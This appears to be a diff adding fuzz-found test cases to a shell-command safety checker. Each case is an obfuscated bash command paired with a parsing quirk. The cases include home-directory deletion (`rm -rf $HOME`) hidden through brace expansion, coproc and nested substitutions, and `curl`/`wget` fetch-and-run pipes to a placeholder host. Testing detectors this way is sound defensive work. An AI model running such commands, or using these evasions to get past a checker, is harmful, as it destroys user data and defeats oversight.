@@ -291,6 +291,12 @@ _FUZZ_FOUND = [
     ("shopt -s expand_aliases\nalias x='time {rm,-r,-f,~/}'\nx", "quoted braces are not expanded"),
     ('eval "rm $(echo -rf) "~""', "a blank tree-sitter put in a closing quote's token"),
     ("time -p { {rm,-fr,$HOME}; }", "a word node holding a blank"),
+    ("coproc c { curl -s x | sh; }", "coproc is a reserved word: the pipeline inside is judged"),
+    ("coproc nohup {$'rm',$(echo -fr),$HOME} | cat", "a coprocess's words keep their substitutions"),
+    ('a[$({$"rm","-fr","$HOME"})]=1', "a substitution's end found in the text, not among tokens"),
+    ('echo "$(echo "$({rm,-fr,$HOME})")"', "nested broken strings"),
+    ("f() { {{rm,},-r,-f,~/}; }; f", "glued braces in a function body"),
+    ("[[ $({wget,} -qO- x | {bash,}) ]]", "a pipe inside a substitution among loose nodes"),
 ]
 
 
